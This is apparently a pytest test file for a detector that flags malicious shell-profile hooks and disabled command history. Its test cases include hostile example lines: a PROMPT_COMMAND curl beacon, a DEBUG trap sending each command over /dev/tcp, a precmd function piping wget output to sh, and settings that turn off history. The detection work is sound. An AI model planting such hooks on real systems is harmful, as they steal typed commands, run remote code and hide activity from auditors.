"""Prompt hooks, history, BASH_ENV."""

import pytest

from detect.running import claims, examples
from hemostat.detect.check import Check, Example
from hemostat.detect.checks import shell_profile_hooks as module
from hemostat.model.evidence import Source
from hemostat.model.level import Level
from hemostat.model.path import HostPath
from hemostat.model.records import Mechanism, StartupLine


@pytest.mark.parametrize(("check", "example"), examples(module))
def test_each_example_does_what_it_says(check: Check, example: Example) -> None:
    assert bool(claims(check, *example.records, context=example.context)) == example.fires


def line(command: str, account: str = "") -> StartupLine:
    return StartupLine(
        source=Source(path=HostPath("/etc/profile.d/x.sh"), line=1),
        mechanism=Mechanism.SHELL_PROFILE,
        account=account,
        command=command,
    )


@pytest.mark.parametrize(
    "command",
    [
        "PROMPT_COMMAND='/tmp/.p'",
        'export PROMPT_COMMAND="$PROMPT_COMMAND; (curl -s 192.0.2.1/x >/dev/null &)"',
        "trap 'echo $BASH_COMMAND > /dev/tcp/192.0.2.1/9' DEBUG",
        "trap 'nohup /usr/bin/x &' EXIT",
        "precmd() { wget -q -O- http://192.0.2.1 | sh; }",
    ],
)
def test_a_hook_that_sends_or_runs_the_odd_is_found(command: str) -> None:
    assert len(claims(module.prompt_hook, line(command))) == 1


@pytest.mark.parametrize(
    "command",
    [
        'PROMPT_COMMAND=\'__git_ps1 "\\u@\\h:\\w" "\\\\\\$ "\'',
        "PROMPT_COMMAND='{ msg=$(history 1); logger -p local1.notice \"$msg\"; }'",
        "PROMPT_COMMAND='history 1 >> /var/log/history.log'",
        "PROMPT_COMMAND='echo x > /tmp/last'",
        "trap 'rm -rf /tmp/x.1' EXIT INT",
        "trap 'curl -s http://127.0.0.1:9/x' DEBUG",
        "precmd() { vcs_info }",
    ],
)
def test_prompts_and_audits_are_quiet(command: str) -> None:
    assert not claims(module.prompt_hook, line(command))


@pytest.mark.parametrize(
    ("command", "account", "level"),
    [
        ("HISTFILE=/dev/null", "", Level.MEDIUM),
        ("export HISTSIZE=0", "root", Level.MEDIUM),
        ("unset HISTFILE", "li", Level.LOW),
        ("export HISTSIZE=1000 HISTFILESIZE=2000", "", None),
        ("HISTSIZE=05000", "", None),
        ("export HISTFILE=$HOME/.bash_history", "", None),
    ],
)
def test_history_off_counts_for_everybody_and_root(
    command: str, account: str, level: Level | None
) -> None:
    found = claims(module.history_off, line(command, account))
    assert [claim.level for claim in found] == ([level] if level else [])


def test_long_lines_are_judged_in_bounded_time() -> None:
    for text in ("trap x " + "a " * 500_000, "unset " + "b " * 500_000, "ENV=" * 300_000):
        for check in (module.prompt_hook, module.history_off, module.script_environment):
            assert len(claims(check, line(text))) <= 1
